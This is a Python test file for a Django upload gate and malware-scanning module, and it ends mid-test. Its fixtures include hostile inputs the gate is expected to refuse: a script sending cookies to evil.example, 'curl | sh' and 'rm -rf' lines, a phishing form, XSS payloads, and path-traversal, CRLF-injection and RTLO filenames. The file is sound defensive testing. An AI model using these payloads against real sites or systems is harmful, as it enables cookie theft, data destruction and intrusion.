"""apps.core.files: sniffing, the upload gate, hashing, scanning (with a fake clamd on 127.0.0.1)
and download tokens. Pure unit tests: no database. Every fixture is real bytes built here."""

from __future__ import annotations

import contextlib
import hashlib
import io
import os
import re
import socket
import socketserver
import struct
import tempfile
import threading
import time
import zipfile
import zlib
from unittest import mock
from urllib.parse import quote

import pytest
from django.core import signing
from django.core.exceptions import ImproperlyConfigured
from django.core.files.base import ContentFile, File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape

from apps.core.errors import ApplicationError
from apps.core.files import (
    DEFAULT_ALLOWED,
    EICAR,
    HEAD_BYTES,
    ClamdScanner,
    DownloadGrant,
    EicarScanner,
    ScannerUnavailable,
    ScanResult,
    ScanStatus,
    TokenExpired,
    TokenInvalid,
    UploadRejected,
    allowed_upload_types,
    check_upload,
    format_size,
    get_scanner,
    make_download_token,
    max_upload_bytes,
    read_download_token,
    read_head,
    safe_filename,
    scan_file,
    sha256,
    sniff_type,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
MiB = 1024 * 1024


# --- real bytes ---------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png(width: int = 2, height: int = 2) -> bytes:
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))  # filter byte + RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(rows))
        + _png_chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    app0 = b"JFIF\x00" + struct.pack(">BBBHHBB", 1, 1, 0, 72, 72, 0, 0)
    return b"\xff\xd8" + b"\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\xff\xd9"


def make_gif() -> bytes:
    screen = struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    image = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + image + b";"


def make_webp() -> bytes:
    vp8l = b"\x2f" + struct.pack("<I", 0) + b"\x00\x00\x00"  # 1x1 lossless header, truncated body
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def make_pdf() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def make_ooxml(folder: str = "word", *, macros: bool = False, filler: int = 0, filler_first: bool = False) -> bytes:
    """A minimal Office Open XML package; `filler` bytes of incompressible data as a stored member."""
    main = {"word": "word/document.xml", "xl": "xl/workbook.xml", "ppt": "ppt/presentation.xml"}[folder]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if filler and filler_first:
            archive.writestr(zipfile.ZipInfo("media/blob.bin"), os.urandom(filler), zipfile.ZIP_STORED)
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr(main, '<?xml version="1.0"?><document/>')
        if macros:
            archive.writestr(f"{folder}/vbaProject.bin", b"\xd0\xcf\x11\xe0macros")
        if filler and not filler_first:
            archive.writestr(zipfile.ZipInfo(f"{folder}/media/image1.bin"), os.urandom(filler), zipfile.ZIP_STORED)
    return buffer.getvalue()


def make_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


class _Unseekable(io.RawIOBase):
    def __init__(self):
        self.data = bytearray()

    def writable(self):
        return True

    def write(self, b):
        self.data += b
        return len(b)


def make_streamed_docx(filler: int) -> bytes:
    """A docx written to a pipe-like stream: sizes deferred to data descriptors (flag bit 3)."""
    sink = _Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("media/blob.bin", os.urandom(filler))
        archive.writestr("word/document.xml", "<document/>")
    return bytes(sink.data)


def make_pe() -> bytes:
    """A DOS header pointing (e_lfanew) at a PE signature and COFF header: a Windows .exe start."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[2:4] = struct.pack("<H", 0x90)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub.ljust(0x80 - 64, b"\x00")
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return body + b"PE\x00\x00" + coff + bytes(256)


def make_elf() -> bytes:
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)


def make_macho() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(64)


def make_java_class() -> bytes:
    return b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, 61) + bytes(32)


SVG_PLAIN = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect/></svg>'
SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<!-- logo -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n'
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
)
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/\')"><circle r="1"/></svg>'
HTML = b"<!DOCTYPE html>\n<html><body><form action=https://phish.example/>Password: <input></form></body></html>"


# --- sniff_type ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "filename", "mime"),
    [
        (make_png(), "screenshot.png", "image/png"),
        (make_jpeg(), "photo.JPG", "image/jpeg"),
        (make_gif(), "spinner.gif", "image/gif"),
        (make_webp(), "banner.webp", "image/webp"),
        (make_pdf(), "invoice.pdf", "application/pdf"),
        (make_ooxml("word"), "report.docx", DOCX),
        (make_ooxml("xl"), "budget.xlsx", XLSX),
        (make_ooxml("ppt"), "deck.pptx", PPTX),
        (b"2024-05-01 12:00:01 ERROR disk full on /var\n", "server.log", "text/plain"),
        (b"plain notes\nwith \xc5\xbc\xc3\xb3\xc5\x82w (UTF-8)\n", "notes.txt", "text/plain"),
        (b"id,name\n1,Ann\n2,Bob\n", "export.csv", "text/csv"),
        (b'{"ticket": 42, "tags": ["vpn"]}\n', "payload.json", "application/json"),
        (b"\xef\xbb\xbf[1, 2, 3]", "list.json", "application/json"),
    ],
    ids=lambda value: value if isinstance(value, str) else "content",
)
def test_sniff_recognises_accepted_types(data, filename, mime):
    result = sniff_type(data, filename)
    assert result.mime == mime
    assert result.extension_ok
    assert not result.dangerous
    check = check_upload(filename=filename, size=len(data), head=data)
    assert (check.mime, check.filename, check.renamed) == (mime, filename, False)


@pytest.mark.parametrize(
    ("data", "label"),
    [
        (make_pe(), "a Windows executable"),
        (make_elf(), "a Linux executable (ELF)"),
        (make_macho(), "a macOS executable"),
        (make_java_class(), "a Java class file"),
        (b"#!/bin/sh\nrm -rf /srv/data\n", "a script"),
        (SVG_SCRIPT, "an SVG image with embedded script"),
        (SVG_ONLOAD, "an SVG image with embedded script"),
        (HTML, "an HTML document"),
        (b"  <script>location='https://evil.example/'+document.cookie</script>", "an HTML document"),
        (make_zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": make_java_class()}), "a Java archive"),
    ],
    ids=["pe", "elf", "macho", "java-class", "shebang", "svg-script", "svg-onload", "html", "bare-script", "jar"],
)
def test_sniff_flags_dangerous_content_whatever_the_name(data, label):
    result = sniff_type(data, "photo.png")
    assert result.dangerous
    assert result.label == label
    assert not result.extension_ok


def test_content_decides_not_the_extension():
    assert sniff_type(make_png(), "photo.jpg").mime == "image/png"
    assert not sniff_type(make_png(), "photo.jpg").extension_ok
    assert sniff_type(make_pdf(), "report.docx").mime == "application/pdf"
    assert sniff_type(b"just text", "image.png").mime == "text/plain"


def test_text_that_merely_starts_with_mz_is_not_an_executable():
    result = sniff_type(b"MZ,Mazowieckie,PL\nDS,Dolnoslaskie,PL\n", "regions.csv")
    assert (result.mime, result.dangerous) == ("text/csv", False)


def test_logs_quoting_html_are_text_not_html():
    log = b'10.0.0.1 - - [01/May/2024] "GET /?q=<script>alert(1)</script> HTTP/1.1" 200\n'
    assert sniff_type(log, "access.log").mime == "text/plain"


def test_svg_without_script_is_recognised_but_not_allowed_by_default():
    result = sniff_type(SVG_PLAIN, "logo.svg")
    assert (result.mime, result.dangerous) == ("image/svg+xml", False)
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="logo.svg", size=len(SVG_PLAIN), head=SVG_PLAIN)
    assert exc.value.code == "type_not_allowed"
    assert exc.value.message.startswith("“logo.svg” looks like an SVG image, which is not allowed here. Allowed: PNG image,")


def test_utf16_text_with_bom_is_text():
    data = "Get-Service output\r\nRunning  Spooler\r\n".encode("utf-16")
    result = sniff_type(data, "services.txt")
    assert (result.mime, result.charset) == ("text/plain", "utf-16")


def test_head_cut_inside_a_utf8_character_is_still_text():
    data = ("a" + "ż" * 40_000).encode()[:HEAD_BYTES]
    assert data[-1:] == b"\xc5"  # the head ends half-way through a character
    assert sniff_type(data, "big.txt").mime == "text/plain"


def test_json_subtype_follows_content_and_extension():
    assert sniff_type(b'{"a": 1}', "output.txt").mime == "text/plain"  # a .txt stays text
    assert sniff_type(b'{"a": 1}', "output").mime == "application/json"
    assert sniff_type(b"hello", "data.json").mime == "text/plain"
    assert sniff_type(b'{"cut": "short', "data.json").mime == "application/json"


def test_unknown_binary_and_empty():
    assert sniff_type(os.urandom(16) + b"\x00\xff\xfe", "blob.dat").mime == "application/octet-stream"
    assert sniff_type(b"", "empty.txt").mime == "application/x-empty"


def test_macro_enabled_office_is_its_own_type():
    data = make_ooxml("word", macros=True)
    result = sniff_type(data, "report.docx")
    assert result.mime == "application/vnd.ms-word.document.macroEnabled.12"
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="report.docx", size=len(data), head=data)
    assert exc.value.code == "type_not_allowed"
    assert "looks like a macro-enabled Word document, which is not allowed here." in exc.value.message


def test_large_docx_is_recognised_from_local_headers_in_the_head():
    data = make_ooxml("word", filler=300_000)
    head = data[:HEAD_BYTES]
    with pytest.raises(zipfile.BadZipFile):  # the central directory is far past the head
        zipfile.ZipFile(io.BytesIO(head))
    assert sniff_type(head, "big.docx").mime == DOCX


def test_docx_whose_word_folder_comes_late_needs_the_central_directory():
    data = make_ooxml("word", filler=300_000, filler_first=True)
    upload = io.BytesIO(data)
    upload.seek(123)
    assert sniff_type(data[:HEAD_BYTES], "big.docx").mime == "application/zip"
    assert sniff_type(data[:HEAD_BYTES], "big.docx", fileobj=upload).mime == DOCX
    assert upload.tell() == 123
    accepted = check_upload(filename="big.docx", size=len(data), head=data[:HEAD_BYTES], fileobj=upload)
    assert accepted.mime == DOCX


def test_zip_with_data_descriptors_is_walked_past_the_deferred_sizes():
    data = make_streamed_docx(filler=20_000)
    assert struct.unpack("<H", data[6:8])[0] & 0x08  # sizes deferred to a data descriptor
    head = data[: len(data) - 200]  # cut before the central directory
    assert sniff_type(head, "streamed.docx").mime == DOCX


def test_plain_zip_is_refused_by_default_and_allowed_when_listed():
    data = make_zip({"logs/app.log": b"started\n"})
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="logs.zip", size=len(data), head=data)
    assert "looks like a ZIP archive, which is not allowed here." in exc.value.message
    accepted = check_upload(
        filename="logs.zip", size=len(data), head=data, allowed_types=[*DEFAULT_ALLOWED, "application/zip"]
    )
    assert accepted.mime == "application/zip"


# --- check_upload: refusals and their messages ---------------------------------------------


def test_windows_executable_named_png_is_refused_as_an_executable():
    data = make_pe()
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="photo.png", size=len(data), head=data)
    assert exc.value.code == "dangerous_type"
    assert exc.value.message == "“photo.png” looks like a Windows executable, which is not allowed."
    assert exc.value.status == 415
    assert isinstance(exc.value, ApplicationError)
    assert exc.value.errors == {"file": [exc.value.message]}


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (make_elf(), "report.pdf", "“report.pdf” looks like a Linux executable (ELF), which is not allowed."),
        (b"#!/bin/sh\ncurl x | sh\n", "deploy.png", "“deploy.png” looks like a script (#!/bin/sh), which is not allowed."),
        (
            b"#!/usr/bin/env python3\nimport os\n",
            "fix.txt",
            "“fix.txt” looks like a script (#!/usr/bin/env python3), which is not allowed.",
        ),
        (SVG_SCRIPT, "logo.svg", "“logo.svg” looks like an SVG image with embedded script, which is not allowed."),
        (HTML, "login.html", "“login.html” looks like an HTML document, which is not allowed."),
    ],
)
def test_dangerous_refusals_name_what_the_file_is(data, filename, message):
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename=filename, size=len(data), head=data)
    assert (exc.value.code, exc.value.message) == ("dangerous_type", message)


def test_dangerous_types_stay_refused_even_when_listed():
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="page.html", size=len(HTML), head=HTML, allowed_types=["text/html", "text/plain"])
    assert exc.value.code == "dangerous_type"


def test_too_large():
    size = round(12.3 * MiB)
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="scan.pdf", size=size, head=make_pdf())
    assert exc.value.code == "too_large"
    assert exc.value.message == "“scan.pdf” is 12.3 MB; the limit is 10 MB."
    assert exc.value.status == 413


def test_one_byte_over_the_limit_does_not_read_as_equal():
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="scan.pdf", size=10 * MiB + 1, head=make_pdf())
    assert exc.value.message == "“scan.pdf” is 10.1 MB; the limit is 10 MB."
    assert check_upload(filename="scan.pdf", size=10 * MiB, head=make_pdf()).mime == "application/pdf"


def test_limits_come_from_settings(settings):
    settings.WARDEN_ATTACHMENT_MAX_BYTES = 512 * 1024
    settings.WARDEN_ATTACHMENT_ALLOWED_TYPES = ["application/pdf"]
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="scan.pdf", size=600 * 1024, head=make_pdf())
    assert exc.value.message == "“scan.pdf” is 600 KB; the limit is 512 KB."
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="shot.png", size=100, head=make_png())
    assert exc.value.message == "“shot.png” looks like a PNG image, which is not allowed here. Allowed: PDF document."
    assert check_upload(filename="a.pdf", size=100, head=make_pdf(), max_bytes=200).mime == "application/pdf"


def test_unrecognised_type_message():
    data = b"\x00\x01\x02\x03binary"
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="dump.bin", size=len(data), head=data)
    assert exc.value.code == "type_not_allowed"
    assert exc.value.message.startswith("“dump.bin” is not a type of file we recognise, so it is not allowed. Allowed: ")


def test_empty_file():
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="notes.txt", size=0, head=b"")
    assert (exc.value.code, exc.value.message) == ("empty", "“notes.txt” is empty.")


def test_png_named_jpg_is_accepted_and_renamed():
    accepted = check_upload(filename="holiday photo.jpg", size=100, head=make_png())
    assert (accepted.filename, accepted.mime, accepted.renamed) == ("holiday photo.png", "image/png", True)


def test_unknown_extension_gets_the_canonical_one_appended():
    assert check_upload(filename="vpn.cfg", size=10, head=b"remote x\n").filename == "vpn.cfg.txt"
    assert check_upload(filename="run.bat", size=10, head=b"@echo off\n").filename == "run.bat.txt"
    assert check_upload(filename="README", size=10, head=b"read me\n").filename == "README.txt"


def test_strict_extension_refuses_a_mismatch():
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename="photo.jpg", size=100, head=make_png(), strict_extension=True)
    assert exc.value.code == "extension_mismatch"
    assert exc.value.message == "“photo.jpg” looks like a PNG image, but its name ends in .jpg. Rename it to .png and try again."


@pytest.mark.parametrize(
    ("filename", "message"),
    [
        ("report\x00.pdf", "The file name “report.pdf” contains control or invisible characters."),
        ("report\r\nX-Injected: 1.pdf", "The file name “reportX-Injected: 1.pdf” contains control or invisible characters."),
        ("invoice\u202efdp.exe", "The file name “invoicefdp.exe” contains control or invisible characters."),
        ("../../etc/cron.d/job.pdf", "The file name “job.pdf” contains a relative path (..)."),
        ("..\\..\\boot.pdf", "The file name “boot.pdf” contains a relative path (..)."),
        ("", "The file has no usable name."),
        (" . . ", "The file has no usable name."),
        ("uploads/", "The file has no usable name."),
    ],
)
def test_unsafe_file_names_are_refused(filename, message):
    with pytest.raises(UploadRejected) as exc:
        check_upload(filename=filename, size=100, head=make_pdf())
    assert exc.value.code == "filename_unsafe"
    assert exc.value.message == f"{message} Rename the file and try again."


def test_file_names_with_a_harmless_fix_are_accepted_cleaned():
    assert check_upload(filename="C:\\Users\\ann\\Desktop\\scan.pdf", size=100, head=make_pdf()).filename == "scan.pdf"
    assert check_upload(filename="CON.pdf", size=100, head=make_pdf()).filename == "_CON.pdf"
    assert check_upload(filename="  .hidden.pdf ", size=100, head=make_pdf()).filename == "hidden.pdf"


# --- safe_filename ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("report.pdf", "report.pdf"),
        ("/var/www/../../etc/passwd", "passwd"),
        ("C:\\fakepath\\Quarterly report.xlsx", "Quarterly report.xlsx"),
        ("bad\x00name\x07.txt", "badname.txt"),
        ("line\nbreak\r.txt", "linebreak.txt"),
        ("invoice\u202egnp.exe", "invoicegnp.exe"),
        ("zero\u200bwidth.txt", "zerowidth.txt"),
        ("tab\there  and\u00a0nbsp.txt", "tabhere and nbsp.txt"),
        ("...leading dots.txt...", "leading dots.txt"),
        ("nul", "_nul"),
        ("COM1.log", "_COM1.log"),
        ("Lpt9 .txt", "_Lpt9.txt"),
        ("console.log", "console.log"),
        ("", "file"),
        ("../..", "file"),
        ("\x00\x01", "file"),
        ("Za\u0328z\u0307o\u0301\u0142c\u0301.txt", "Zążółć.txt"),  # combining marks composed (NFC)
        ("\U0001f468\u200d\U0001f4bb notes.txt", "\U0001f468\u200d\U0001f4bb notes.txt"),  # ZWJ kept
    ],
)
def test_safe_filename(raw, clean):
    assert safe_filename(raw) == clean


def test_safe_filename_keeps_markup_as_a_plain_string():
    name = safe_filename("<img src=x onerror=alert(1)>.png")
    assert name == "<img src=x onerror=alert(1)>.png"  # not escaped here ...
    assert type(name) is str
    assert escape(name) == "&lt;img src=x onerror=alert(1)&gt;.png"  # ... the template escapes it
    assert safe_filename('"><svg onload=alert(1)>/x.png') == "x.png"


def test_safe_filename_limits_length_and_keeps_the_extension():
    name = safe_filename("a" * 500 + ".pdf")
    assert len(name) == 200
    assert name.endswith("a.pdf")
    wide = safe_filename("漢" * 150 + ".txt")  # 3 bytes each in UTF-8
    assert wide.endswith(".txt")
    assert len(wide.encode()) <= 255
    assert len(safe_filename("x." + "y" * 300)) == 200  # a "suffix" that long is no extension


def test_format_size():
    assert format_size(1) == "1 byte"
    assert format_size(900) == "900 bytes"
    assert format_size(1536) == "1.5 KB"
    assert format_size(10 * MiB) == "10 MB"
    assert format_size(round(12.34 * MiB)) == "12.3 MB"
    assert format_size(round(12.31 * MiB), round_up=True) == "12.4 MB"
    assert format_size(3 * 1024 * MiB) == "3 GB"


# --- sha256 and reading --------------------------------------------------------------------


def test_sha256_streams_any_file_like_object():
    data = os.urandom(300_000)
    expected = hashlib.sha256(data).hexdigest()
    stream = io.BytesIO(data)
    stream.seek(1000)
    assert sha256(stream, chunk_size=7919) == expected
    assert stream.tell() == 0  # read from the start, left at the start
    assert sha256(ContentFile(data, name="x.bin")) == expected
    assert sha256(SimpleUploadedFile("x.bin", data)) == expected
    assert sha256(io.BytesIO(b"")) == hashlib.sha256(b"").hexdigest()


def test_sha256_of_a_django_file_on_disk(tmp_path):
    path = tmp_path / "attachment.bin"
    path.write_bytes(b"warden" * 50_000)
    with path.open("rb") as handle:
        assert sha256(File(handle)) == hashlib.sha256(path.read_bytes()).hexdigest()


def test_sha256_refuses_text_mode(tmp_path):
    path = tmp_path / "notes.txt"
    path.write_text("hello")
    with path.open("r") as handle, pytest.raises(TypeError, match="binary mode"):
        sha256(handle)


def test_read_head_reads_the_start_and_rewinds():
    stream = io.BytesIO(b"x" * 100_000)
    stream.seek(500)
    assert len(read_head(stream)) == HEAD_BYTES
    assert stream.tell() == 0
    assert read_head(io.BytesIO(b"tiny")) == b"tiny"


# --- EICAR scanner ------------------------------------------------------------------------


def test_eicar_alone_is_found():
    result = EicarScanner().scan(io.BytesIO(EICAR + b"\r\n"))
    assert result == ScanResult(clean=False, signature="Eicar-Test-Signature", scanner="eicar")


def test_eicar_across_a_chunk_boundary_deep_in_the_stream_is_found():
    start = 3 * 64 * 1024 - 30  # straddles the third chunk boundary, past the head
    data = os.urandom(start).replace(b"X5O", b"x5o") + EICAR + b"\x00" * 1000
    stream = io.BytesIO(data)
    assert not EicarScanner().scan(stream).clean
    assert stream.tell() == 0


@pytest.mark.parametrize(
    "data",
    [
        EICAR[:-1],  # truncated
        EICAR.replace(b"EICAR", b"EICAX"),  # one letter off
        EICAR.lower(),
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$ EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",  # extra space
        b"The EICAR-STANDARD-ANTIVIRUS-TEST-FILE is described at eicar.org\n",
        make_png(),
        make_pdf(),
        make_ooxml("word"),
    ],
    ids=["truncated", "one-letter-off", "lower-case", "extra-space", "prose", "png", "pdf", "docx"],
)
def test_near_misses_and_ordinary_files_are_clean(data):
    assert EicarScanner().scan(io.BytesIO(data)) == ScanResult(clean=True, scanner="eicar")


def test_get_scanner_defaults_to_eicar(settings):
    if hasattr(settings, "WARDEN_ATTACHMENT_SCANNER"):
        del settings.WARDEN_ATTACHMENT_SCANNER
    assert isinstance(get_scanner(), EicarScanner)


def test_get_scanner_follows_the_setting(settings):
    settings.WARDEN_ATTACHMENT_SCANNER = "apps.core.files.ClamdScanner"
    settings.WARDEN_CLAMD = {"host": "127.0.0.1", "port": 9, "timeout": 1}
    scanner = get_scanner()
    assert isinstance(scanner, ClamdScanner)
    assert (scanner.address, scanner.timeout) == ("127.0.0.1:9", 1.0)
    settings.WARDEN_ATTACHMENT_SCANNER = "apps.core.files.NoSuchScanner"
    with pytest.raises(ImproperlyConfigured, match="cannot import"):
        get_scanner()
    settings.WARDEN_ATTACHMENT_SCANNER = "builtins.object"
    with pytest.raises(ImproperlyConfigured, match="no scan"):
        get_scanner()


def test_scan_file_fails_closed():
    class Down:
        def scan(self, fileobj):
            raise ScannerUnavailable("clamd is down")

    class Broken:
        def scan(self, fileobj):
            raise RuntimeError("bug")

    assert scan_file(io.BytesIO(b"ok"), scanner=EicarScanner()).status == ScanStatus.CLEAN
    infected = scan_file(io.BytesIO(EICAR), scanner=EicarScanner())
    assert (infected.status, infected.signature) == (ScanStatus.INFECTED, "Eicar-Test-Signature")
    down = scan_file(io.BytesIO(b"ok"), scanner=Down())
    assert (down.status, down.reason) == (ScanStatus.UNSCANNED, "clamd is down")
    assert scan_file(io.BytesIO(b"ok"), scanner=Broken()).status == ScanStatus.UNSCANNED


# --- clamd over INSTREAM, against a fake on 127.0.0.1 ---------------------------------------


def _recv_exactly(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        part = sock.recv(n - len(data))
        if not part:
            raise ConnectionError("client went away")
        data += part
    return data


class FakeClamdHandler(socketserver.BaseRequestHandler):
    """Speaks enough of clamd: zPING and zINSTREAM with 4-byte big-endian length-prefixed chunks."""

    def handle(self):
        server = self.server
        sock = self.request
        sock.settimeout(10)
        command = b""
        while not command.endswith(b"\0"):
            command += _recv_exactly(sock, 1)
        server.commands.append(command)
        if command == b"zPING\0":
            sock.sendall(b"PONG\0")
            return
        if command != b"zINSTREAM\0":
            sock.sendall(b"UNKNOWN COMMAND\0")
            return
        data = bytearray()
        while True:
            (length,) = struct.unpack("!I", _recv_exactly(sock, 4))
            if length == 0:
                break
            server.chunk_sizes.append(length)
            data += _recv_exactly(sock, length)
            if server.mode == "limit" and len(data) > server.stream_max:
                sock.sendall(b"INSTREAM size limit exceeded. ERROR\0")
                return
        server.streams.append(bytes(data))
        reply = b"stream: Eicar-Test-Signature FOUND\0" if EICAR in data else b"stream: OK\0"
        if server.mode == "hang":
            server.release.wait(10)
        elif server.mode == "drip":  # answers, one byte every 0.2 s: each read succeeds, the whole is slow
            for byte in reply:
                if server.release.wait(0.2):
                    return
                sock.sendall(bytes([byte]))
        else:
            sock.sendall(reply)


class _State:
    mode = "normal"
    stream_max = 0

    def setup_state(self):
        self.commands, self.chunk_sizes, self.streams = [], [], []
        self.release = threading.Event()


class FakeClamdTCP(_State, socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


class FakeClamdUnix(_State, socketserver.ThreadingUnixStreamServer):
    daemon_threads = True


@contextlib.contextmanager
def _serving(server):
    server.setup_state()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.release.set()
        server.shutdown()
        server.server_close()
        thread.join(5)


@pytest.fixture
def clamd():
    with _serving(FakeClamdTCP(("127.0.0.1", 0), FakeClamdHandler)) as server:
        yield server


@pytest.fixture
def clamd_unix():
    folder = tempfile.mkdtemp(prefix="clamd-", dir="/tmp")  # AF_UNIX paths must stay short
    path = os.path.join(folder, "clamd.sock")
    try:
        with _serving(FakeClamdUnix(path, FakeClamdHandler)) as server:
            yield server
    finally:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        os.rmdir(folder)


def _scanner(server, **kwargs) -> ClamdScanner:
    host, port = server.server_address
    assert host == "127.0.0.1"
    return ClamdScanner(host=host, port=port, **{"timeout": 5, **kwargs})


def test_clamd_clean_stream_is_sent_in_chunks(clamd):
    data = os.urandom(200_000).replace(b"X5O", b"x5o")
    stream = io.BytesIO(data)
    result = _scanner(clamd, chunk_size=64 * 1024).scan(stream)
    assert result == ScanResult(clean=True, scanner="clamd")
    assert clamd.commands == [b"zINSTREAM\0"]
    assert clamd.streams == [data]
    assert clamd.chunk_sizes == [65536, 65536, 65536, 200_000 - 3 * 65536]
    assert stream.tell() == 0


def test_clamd_infected(clamd):
    result = _scanner(clamd).scan(ContentFile(b"prefix " + EICAR + b" suffix"))
    assert result == ScanResult(clean=False, signature="Eicar-Test-Signature", scanner="clamd")


def test_clamd_empty_stream_is_clean(clamd):
    assert _scanner(clamd).scan(io.BytesIO(b"")).clean
    assert clamd.chunk_sizes == []


def test_clamd_from_settings_and_ping(clamd, settings):
    settings.WARDEN_CLAMD = {"host": "127.0.0.1", "port": clamd.server_address[1], "timeout": 3}
    scanner = ClamdScanner()
    scanner.ping()
    assert scanner.scan(io.BytesIO(EICAR)).signature == "Eicar-Test-Signature"
    assert clamd.commands == [b"zPING\0", b"zINSTREAM\0"]


def test_clamd_over_a_unix_socket(clamd_unix, settings):
    settings.WARDEN_CLAMD = {"socket": clamd_unix.server_address, "timeout": 3}
    scanner = ClamdScanner()
    assert scanner.address == f"unix:{clamd_unix.server_address}"
    assert scanner.scan(io.BytesIO(b"hello")).clean
    assert not scanner.scan(io.BytesIO(EICAR)).clean


def test_clamd_that_never_answers_times_out(clamd):
    clamd.mode = "hang"
    started = time.monotonic()
    with pytest.raises(ScannerUnavailable, match="no verdict within 0.5 s"):
        _scanner(clamd, timeout=0.5).scan(io.BytesIO(b"hello"))
    assert time.monotonic() - started < 3


def test_clamd_timeout_bounds_the_whole_exchange_not_each_read(clamd):
    clamd.mode = "drip"
    started = time.monotonic()
    with pytest.raises(ScannerUnavailable):
        _scanner(clamd, timeout=0.6).scan(io.BytesIO(b"hello"))
    assert time.monotonic() - started < 2.5  # the 30-byte reply would take 6 s


def test_clamd_connection_refused():
    with socket.socket() as placeholder:  # bound, not listening: connecting is refused
        placeholder.bind(("127.0.0.1", 0))
        port = placeholder.getsockname()[1]
        with pytest.raises(ScannerUnavailable, match=f"cannot reach clamd at 127.0.0.1:{port}"):
            ClamdScanner(host="127.0.0.1", port=port, timeout=2).scan(io.BytesIO(b"hello"))
        with pytest.raises(ScannerUnavailable):
            ClamdScanner(host="127.0.0.1", port=port, timeout=2).ping()
    verdict = scan_file(io.BytesIO(b"hello"), scanner=ClamdScanner(host="127.0.0.1", port=port, timeout=2))
    assert verdict.status == ScanStatus.UNSCANNED


def test_clamd_missing_unix_socket(tmp_path):
    with pytest.raises(ScannerUnavailable, match="cannot reach clamd at unix:"):
        ClamdScanner(socket_path=str(tmp_path / "absent.sock"), timeout=1).scan(io.BytesIO(b"x"))


def test_clamd_stream_limit_error_is_no_verdict(clamd):
    clamd.mode = "limit"
    clamd.stream_max = 100_000
    with pytest.raises(ScannerUnavailable):
